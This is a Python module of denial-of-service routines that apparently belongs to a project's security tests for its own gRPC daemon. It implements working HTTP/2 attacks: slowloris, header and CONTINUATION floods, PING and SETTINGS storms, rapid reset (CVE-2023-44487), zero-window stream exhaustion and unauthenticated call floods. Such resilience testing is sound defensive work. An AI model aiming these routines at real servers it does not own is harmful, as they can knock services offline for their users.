"""Attacks on the port, a few seconds each: what a stranger can send who has no token, or a caller who means ill.

Each takes an address, a token (which most do not use) and an end, keeps its connections until then, and closes them.
"""

import contextlib
import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager

from tests.security import http2
from tests.security.http2 import Kind

LIST = "/swarm.v1.SwarmService/ListSwarms"
WATCH = "/swarm.v1.SwarmService/WatchSwarm"
HEALTH = "/grpc.health.v1.Health/Check"
AT_ONCE = 30
IDLE_CONNECTIONS = 300
PATIENCE = 0.02

Attack = Callable[[str, str, float], None]


@contextmanager
def connections(address: str, count: int = AT_ONCE) -> Iterator[list[socket.socket]]:
    """As many as come about."""
    with contextlib.ExitStack() as stack:
        found: list[socket.socket] = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                each = stack.enter_context(http2.connect(address))
                each.settimeout(PATIENCE)
                found.append(each)
        yield found


def send(connection: socket.socket, data: bytes) -> bool:
    """Whether it could be sent; what is answered is read and forgotten."""
    try:
        connection.sendall(data)
        with contextlib.suppress(TimeoutError):
            return connection.recv(65536) != b""
    except TimeoutError:
        return True
    except OSError:
        return False
    return True


def again_and_again(address: str, until: float, words: Callable[[int], bytes], count: int = 4) -> None:
    """The same on a few connections, which are made anew when the daemon closes them."""
    number = 1
    while time.monotonic() < until:
        with connections(address, count) as found:
            while found and time.monotonic() < until:
                number = number + 2 if number < 1 << 30 else 1
                found = [each for each in found if send(each, words(number))]
                if number % 201 == 1:
                    break


def slowloris(address: str, token: str, until: float) -> None:
    """The preface byte by byte."""
    with connections(address) as found:
        place = 0
        while time.monotonic() < until:
            for each in found:
                send(each, http2.PREFACE[place : place + 1])
            place = (place + 1) % len(http2.PREFACE)


def half_headers(address: str, token: str, until: float) -> None:
    """Headers that go on and on and never end."""
    part = http2.header_block(http2.request_fields(LIST))[:20]
    with connections(address) as found:
        for each in found:
            send(each, http2.hello() + http2.frame(Kind.HEADERS, part, stream=1))
        while time.monotonic() < until:
            for each in found:
                send(each, http2.frame(Kind.CONTINUATION, b"", stream=1)[:5])


def half_open(address: str, token: str, until: float) -> None:
    """Connections on which nobody says a word."""
    with connections(address, IDLE_CONNECTIONS):
        time.sleep(max(0.0, until - time.monotonic()))


def pings(address: str, token: str, until: float) -> None:
    again_and_again(address, until, lambda n: http2.hello() + http2.frame(Kind.PING, bytes(8)) * 500)


def settings(address: str, token: str, until: float) -> None:
    again_and_again(address, until, lambda n: http2.hello() + http2.settings([(http2.INITIAL_WINDOW_SIZE, n)]) * 500)


def rapid_reset(address: str, token: str, until: float) -> None:
    """Calls that are taken back at once (CVE-2023-44487)."""

    def words(number: int) -> bytes:
        calls = (http2.request(n, HEALTH, token=token) + http2.reset(n) for n in range(1, 200, 2))
        return http2.hello() + b"".join(calls)

    again_and_again(address, until, words)


def continuations(address: str, token: str, until: float) -> None:
    """One block of headers in endlessly many frames."""
    part = http2.header_block([("x-filler", "a" * 1000)])
    opening = http2.hello() + http2.frame(Kind.HEADERS, http2.header_block(http2.request_fields(LIST)), stream=1)
    again_and_again(address, until, lambda n: opening + http2.frame(Kind.CONTINUATION, part, stream=1) * 200)


def huge_headers(address: str, token: str, until: float) -> None:
    block = http2.header_block([*http2.request_fields(LIST), *(("x-filler", "a" * 4000) for _ in range(30))])
    parts = [block[start : start + 16_000] for start in range(0, len(block), 16_000)]
    frames = http2.frame(Kind.HEADERS, parts[0], stream=1) + b"".join(
        http2.frame(Kind.CONTINUATION, part, flags=http2.END_HEADERS * (part is parts[-1]), stream=1)
        for part in parts[1:]
    )
    again_and_again(address, until, lambda n: http2.hello() + frames)


def unread_streams(address: str, token: str, until: float) -> None:
    """Watchers and lists with a window of 0: whatever is answered stays with the daemon."""
    watch = b"\x0a\x01s"
    with connections(address, 10) as found:
        for each in found:
            calls = [
                http2.request(n, WATCH if n % 4 == 1 else LIST, watch * (n % 4 == 1), token=token)
                for n in range(1, 40, 2)
            ]
            send(each, http2.hello([(http2.INITIAL_WINDOW_SIZE, 0)]) + b"".join(calls))
        time.sleep(max(0.0, until - time.monotonic()))


def coming_and_going(address: str, token: str, until: float) -> None:
    """Connections that are closed at once, hard."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError), http2.connect(address) as found:
            found.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def unauthorized(address: str, token: str, until: float) -> None:
    """Calls without a token, as many as go."""

    def words(number: int) -> bytes:
        return http2.hello() + b"".join(http2.request(n, LIST) for n in range(1, 60, 2))

    again_and_again(address, until, words)


def odd_paths(address: str, token: str, until: float) -> None:
    """Methods whose names are no text."""
    fields = http2.header_block(http2.request_fields("/a.B/C@"))
    odd = fields.replace(b"/a.B/C@", b"/a.B/C\xff")
    opening = http2.hello() + http2.frame(Kind.HEADERS, odd, flags=5, stream=1)
    again_and_again(address, until, lambda n: opening)


def nonsense(address: str, token: str, until: float) -> None:
    """What other protocols begin with, and what none does."""
    words = (
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc",
        b"\0" * 1000,
        b"\xff" * 1000,
    )
    again_and_again(address, until, lambda n: words[n // 2 % len(words)])


ATTACKS: dict[str, Attack] = {
    "slowloris": slowloris,
    "half headers": half_headers,
    "half-open connections": half_open,
    "pings": pings,
    "settings": settings,
    "rapid reset": rapid_reset,
    "continuations": continuations,
    "huge headers": huge_headers,
    "streams that are not read": unread_streams,
    "coming and going": coming_and_going,
    "calls without a token": unauthorized,
    "paths that are no text": odd_paths,
    "nonsense": nonsense,
}
